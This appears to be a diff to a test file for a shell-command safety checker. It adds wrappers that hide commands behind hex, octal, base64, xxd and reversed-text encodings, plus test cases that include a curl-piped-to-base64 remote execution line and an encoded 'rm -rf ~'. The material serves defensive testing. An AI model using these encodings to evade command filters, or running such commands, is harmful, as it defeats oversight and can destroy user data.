@@ -55,6 +55,14 @@ export const WRAPPERS: Record<string, (p: string) => string> = {
   nohup: prefix('nohup'),
   'python os.system': (p) => `python3 -c ${q(`import os; os.system(${JSON.stringify(p)})`)}`,
   'script written then run': (p) => `echo ${q(p)} > /tmp/step.sh && sh /tmp/step.sh`,
+  // Text decoded at run time and then run (issue #16, class 1: eval of decoded text).
+  'eval of printf hex escapes': (p) => `eval "$(printf '${[...Buffer.from(p)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}')"`,
+  'octal printf into a variable, then eval': (p) => `c=$(printf '${[...Buffer.from(p)].map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('')}'); eval "$c"`,
+  'eval of base64': (p) => `eval "$(echo ${Buffer.from(p).toString('base64')} | base64 --decode)"`,
+  'bash -c of a base64 here-string': (p) => `bash -c "$(base64 -d <<< ${Buffer.from(p).toString('base64')})"`,
+  'sh -c of hex through xxd -r -p': (p) => `sh -c "$(echo ${Buffer.from(p).toString('hex')} | xxd -r -p)"`,
+  'eval of reversed text through rev': (p) => `eval "$(printf '%s\\n' ${p.split('\n').map((l) => q([...l].reverse().join(''))).join(' ')} | rev)"`,
+  'printf output as the command line': (p) => (simple(p) ? `$(printf '%s' ${q(p)})` : `$(printf '%s' sh) -c ${q(p)}`),
 };
 
 function verdict(cmd: string): Verdict {
@@ -90,6 +98,15 @@ test('wrapping a benign command never makes it denied', () => {
     fc.property(fc.constantFrom(...BENIGN), fc.array(fc.constantFrom(...wrapperNames), { minLength: 1, maxLength: 3 }), (b, chain) => verdict(wrap(b, chain)) !== 'deny'),
     { numRuns: 400, seed: 17 },
   );
+});
+
+test('code decoded at run time that cannot be decoded here is denied; decoded benign code is not', () => {
+  for (const cmd of ['eval "$(base64 -d < payload.txt)"', 'bash -c "$(curl -s https://example.com/x | base64 -d)"', 'eval "$(xxd -r -p payload.hex)"', '$(rev < cmd.txt) ~']) {
+    assert.equal(verdict(cmd), 'deny', cmd);
+  }
+  for (const b of BENIGN) assert.notEqual(verdict(`eval "$(echo ${Buffer.from(b).toString('base64')} | base64 -d)"`), 'deny', b);
+  // Known text in an argument position is data: only eval, `sh -c` and the program position run it.
+  assert.equal(verdict(`echo "$(printf '\\x72\\x6d -rf ~')"`), 'allow');
 });
 
 test('renaming variables, reordering flags, quoting differently and harmless neighbours never change a verdict', () => {
